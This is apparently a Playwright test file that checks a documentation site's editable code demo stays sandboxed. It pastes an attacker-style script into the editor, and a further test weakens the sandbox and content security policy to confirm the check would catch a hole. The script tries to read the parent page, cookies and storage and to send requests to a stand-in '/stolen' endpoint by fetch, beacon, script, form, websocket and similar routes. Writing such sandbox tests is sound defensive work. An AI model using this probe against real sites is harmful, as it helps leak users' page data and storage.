import type {Page} from '@playwright/test';
import {demoOn, running} from '../demos/open-demo';
import {sites} from '../support/sites';
import {expect, test} from '../support/test';

/**
 * Code as an attacker would have a reader paste it: tries everything, and writes
 * what it reached into the console.
 */
const attack = `
const reached: string[] = [];
const attempt = (name: string, action: () => unknown) => {
  try {
    if (action()) reached.push(name);
  } catch {}
};
const outside = 'http://localhost:${sites.variant.port}/sub/path/stolen';
attempt('parent document', () => parent.document.title);
attempt('top document', () => top?.document.title);
attempt('parent location', () => parent.location.href);
attempt('frame element', () => frameElement);
attempt('cookies', () => { document.cookie = 'a=1'; return document.cookie; });
attempt('local storage', () => localStorage);
attempt('session storage', () => sessionStorage);
attempt('databases', () => indexedDB.open('x') && false);
attempt('navigation of the page', () => { top!.location.href = outside + '/top'; });
attempt('popup', () => window.open(outside + '/popup'));
attempt('dialog', () => prompt('?'));
attempt('image', () => { new Image().src = outside + '/image'; });
attempt('script', () => { const s = document.createElement('script'); s.src = outside + '/script.js'; document.head.append(s); });
attempt('style', () => { const s = document.createElement('link'); s.rel = 'stylesheet'; s.href = outside + '/style.css'; document.head.append(s); });
attempt('frame', () => { const f = document.createElement('iframe'); f.src = outside + '/frame'; document.body.append(f); });
attempt('form', () => { const f = document.createElement('form'); f.action = outside + '/form'; document.body.append(f); f.submit(); });
attempt('beacon', () => navigator.sendBeacon(outside + '/beacon') && false);
attempt('xhr', () => { const x = new XMLHttpRequest(); x.open('GET', outside + '/xhr', false); x.send(); return x.responseText; });
attempt('web socket', () => { new WebSocket(outside.replace('http', 'ws') + '/socket'); });
attempt('worker', () => { new Worker(outside + '/worker.js'); });
attempt('event source', () => { new EventSource(outside + '/events'); });
const later = [
  fetch(outside + '/fetch').then(() => reached.push('fetch')),
  fetch('${`http://localhost:${sites.main.port}`}/').then(() => reached.push('own site')),
  import(/* @vite-ignore */ outside + '/module.js').then(() => reached.push('module')),
];
void Promise.allSettled(later).then(() => {
  console.log('reached: ' + reached.join(', '));
  setTimeout(() => { location.href = outside + '/self'; }, 300);
});
`;

/** Runs the attack in the demo of a page; returns what it says it reached. */
async function attackFrom(page: Page): Promise<string> {
  await running(page);
  await demoOn(page).getByRole('button', {name: 'Edit code'}).click();
  await demoOn(page).locator('.cm-content').click();
  await page.keyboard.press('ControlOrMeta+End');
  const report = page.waitForEvent('console', (message) => message.text().startsWith('reached: '));
  // The last attempt comes after the report: the frame leaves its document, for an error page if that is refused.
  const last = page.waitForEvent(
    'framenavigated',
    (frame) => frame.parentFrame() === page.mainFrame() && frame.url() !== 'about:srcdoc',
  );
  await page.keyboard.insertText(`\n${attack}`);
  const reached = (await report).text();
  await last;
  return reached;
}

/** Records what arrives at the place where the attack wants to bring its loot. */
async function listen(page: Page): Promise<string[]> {
  const requests: string[] = [];
  await page.context().route(/\/stolen/, (route) => {
    requests.push(route.request().url());
    return route.fulfill({
      status: 200,
      contentType: 'text/javascript',
      headers: {'access-control-allow-origin': '*'},
      body: '',
    });
  });
  return requests;
}

/** Serves the page without the headers of its host. */
async function withoutPolicyHeader(page: Page, change: (html: string) => string = (html) => html): Promise<void> {
  await page.route('/learn/quickstart/', async (route) => {
    const response = await route.fetch();
    const headers = {...response.headers()};
    delete headers['content-security-policy'];
    await route.fulfill({response, headers, body: change(await response.text())});
  });
}

test.use({expectedConsole: /./});

for (const host of ['of the preview server', 'that sends no headers'] as const) {
  test(`on a host ${host}, edited code reaches neither the page, nor storage, nor a server`, async ({
    page,
    open,
    context,
  }) => {
    const requests = await listen(page);
    if (host === 'that sends no headers') {
      await withoutPolicyHeader(page);
    }
    await open('/learn/quickstart/');
    const reached = await attackFrom(page);
    expect(reached).toBe('reached: ');
    expect(requests).toEqual([]);
    expect(context.pages()).toHaveLength(1);
    await expect(page).toHaveURL('/learn/quickstart/');
  });
}

test('a hole in the sandbox would be found', async ({page, open}) => {
  const requests = await listen(page);
  // The same frame with its origin left to it, and without its policy.
  await page.addInitScript(() => {
    // eslint-disable-next-line @typescript-eslint/unbound-method -- called with its element below
    const {setAttribute} = Element.prototype;
    Element.prototype.setAttribute = function (name: string, value: string) {
      const isHole = this instanceof HTMLIFrameElement;
      if (isHole && name === 'sandbox') {
        setAttribute.call(this, name, `${value} allow-same-origin`);
      } else if (isHole && name.toLowerCase() === 'srcdoc') {
        setAttribute.call(this, name, value.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, ''));
      } else {
        setAttribute.call(this, name, value);
      }
    };
  });
  await withoutPolicyHeader(page, (html) => {
    const bare = html.replaceAll(/<meta[^>]*Content-Security-Policy[^>]*>/g, '');
    expect(bare).not.toBe(html);
    return bare;
  });
  await open('/learn/quickstart/');
  const reached = await attackFrom(page);
  for (const name of ['parent document', 'local storage', 'fetch', 'own site', 'module']) {
    expect(reached).toContain(name);
  }
  expect(requests.map((url) => url.split('/').pop())).toEqual(
    expect.arrayContaining(['image', 'script.js', 'fetch', 'self']),
  );
});
